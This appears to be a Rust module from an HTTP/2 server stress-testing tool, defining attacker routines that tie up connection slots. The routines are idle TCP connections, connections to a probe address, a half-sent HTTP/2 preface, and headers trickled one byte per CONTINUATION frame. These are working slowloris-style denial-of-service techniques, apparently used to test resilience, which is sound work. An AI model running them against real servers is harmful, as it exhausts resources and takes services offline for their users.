//! Connections that occupy a slot without using it.

use std::sync::Arc;
use std::time::Duration;

use tokio::time::sleep;

use super::frames::{CONTINUATION, HEADERS, PREFACE, Raw, frame, request_headers};
use super::offender::{Offender, at_once};

/// Opens TCP connections, and sends no byte.
pub async fn idle(offender: Arc<Offender>) {
    at_once(&offender, offender.count(1100), |offender, _| async move {
        if let Some(mut raw) = Raw::connect(&offender).await {
            raw.closed().await;
        }
    })
    .await;
}

/// Opens TCP connections to the address that answers probes, and sends no byte.
pub async fn to_probes(offender: Arc<Offender>) {
    let Some(probes) = offender.probes else { return std::future::pending().await };
    let (connections, _) = offender.spread(40, 0);
    at_once(&offender, connections, move |offender, number| async move {
        sleep(offender.pause(BETWEEN) * number as u32).await;
        while let Some(mut raw) = Raw::connect_to(&offender, probes).await {
            raw.closed().await;
            sleep(offender.pause(BETWEEN)).await;
        }
    })
    .await;
}

/// Opens connections, and sends a part of the HTTP/2 preface.
pub async fn half_open(offender: Arc<Offender>) {
    at_once(&offender, offender.count(500), |offender, _| async move {
        let Some(mut raw) = Raw::connect(&offender).await else { return };
        if raw.write(&PREFACE[..PREFACE.len() / 2], 0).await {
            raw.closed().await;
        }
    })
    .await;
}

/// Sends headers in frames of one byte, one frame each half second.
pub async fn slow_headers(offender: Arc<Offender>) {
    at_once(&offender, offender.count(200), |offender, _| async move {
        let Some(mut raw) = Raw::http2(&offender).await else { return };
        raw.drain_input();
        offender.did.opened_stream();
        let mut is_open = raw.write(&frame(HEADERS, 0, 1, &[]), 1).await;
        for byte in request_headers().into_iter().cycle() {
            if !is_open {
                return;
            }
            sleep(EACH).await;
            is_open = raw.write(&frame(CONTINUATION, 0, 1, &[byte]), 1).await;
        }
    })
    .await;
}

const EACH: Duration = Duration::from_millis(500);
/// The pause between two connections to the address that answers probes, and before a closed one is replaced.
const BETWEEN: Duration = Duration::from_millis(5);
